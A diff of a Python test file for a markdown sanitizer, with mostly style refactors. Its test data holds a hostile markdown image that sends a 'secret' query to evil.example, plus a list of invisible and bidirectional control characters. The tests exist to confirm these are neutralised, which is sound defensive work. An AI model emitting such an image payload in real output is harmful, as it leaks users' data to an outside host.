@@ -5,13 +5,17 @@ THREATS 17 and 18. The reader is markdown-it with everything on that it has; `ac
 
 from __future__ import annotations
 
+from typing import TYPE_CHECKING
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
-from markdown_it.token import Token
 
 from server.markdown import code_block, code_span, inline, one_line, paragraphs, visible
+
+if TYPE_CHECKING:
+    from markdown_it.token import Token
 
 HOSTILE = {
     "remote image": "![x](https://evil.example/a.png?q=secret)",
@@ -70,7 +74,7 @@ def test_threat_17_hostile_text_is_words_and_code(text: str, write: object) -> N
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
 def test_threat_17_hostile_text_in_a_block_is_one_block(text: str) -> None:
-    found = [token for token in tokens(code_block(text, "python"))]
+    found = list(tokens(code_block(text, "python")))
     assert [token.type for token in found] == ["fence"]
     assert found[0].info == "python"
 
@@ -92,7 +96,12 @@ def test_any_text_is_words_and_code(text: str) -> None:
 def test_a_code_span_holds_its_text(text: str) -> None:
     markdown = code_span(text)
     if markdown:
-        assert [token.type for token in tokens(markdown)] == ["paragraph_open", "inline", "code_inline", "paragraph_close"]
+        assert [token.type for token in tokens(markdown)] == [
+            "paragraph_open",
+            "inline",
+            "code_inline",
+            "paragraph_close",
+        ]
         assert squeezed(rendered(markdown)) == squeezed(text)
     else:
         assert not text.strip()
@@ -119,7 +128,9 @@ def test_ordinary_messages_stay_readable(text: str, markdown: str | None) -> Non
     assert inline(text) == (text if markdown is None else markdown)
 
 
-@pytest.mark.parametrize("code", [0x202A, 0x202E, 0x2066, 0x2069, 0x061C, 0x200B, 0x200F, 0x2060, 0xFEFF, 0xAD, 0xE0041, 0x1B, 0x7F, 0x9B])
+@pytest.mark.parametrize(
+    "code", [0x202A, 0x202E, 0x2066, 0x2069, 0x061C, 0x200B, 0x200F, 0x2060, 0xFEFF, 0xAD, 0xE0041, 0x1B, 0x7F, 0x9B]
+)
 def test_invisible_characters_are_shown(code: int) -> None:
     assert visible(f"a{chr(code)}b") == f"a<U+{code:04X}>b"
 
